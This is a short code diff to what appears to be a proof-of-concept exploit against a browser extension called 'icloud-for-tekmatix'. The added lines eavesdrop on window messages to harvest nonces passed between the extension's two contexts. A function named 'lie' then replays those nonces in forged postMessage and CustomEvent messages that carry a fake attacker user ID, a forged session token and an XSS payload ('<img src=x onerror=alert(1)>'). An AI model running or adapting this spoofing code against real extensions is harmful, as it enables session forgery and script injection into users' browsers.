@@ -17,10 +17,14 @@
     }
   };
 
+  // What the extension's two worlds say to each other can be overheard, and be said with.
+  const nonces = [''];
+  window.addEventListener('message', (event) => { if (event.data?.nonce) { nonces.unshift(event.data.nonce); nonces.length = Math.min(nonces.length, 6); } });
+
   const lie = () => {
     const user = { userId: 'attacker0000000001', userName: '<img src=x onerror=alert(1)>' };
     for (const mark of ['icloud-for-tekmatix:user', 'icloud-for-tekmatix', 'ICLOUD_FOR_TEKMATIX']) {
-      window.postMessage({ mark, type: mark, ...user, user, session: 'U2FsdGVkX1forged' }, '*');
+      for (const nonce of new Set(nonces)) window.postMessage({ mark, type: mark, ...user, user, nonce, session: 'U2FsdGVkX1forged' }, '*');
       window.dispatchEvent(new CustomEvent(mark, { detail: user }));
     }
   };
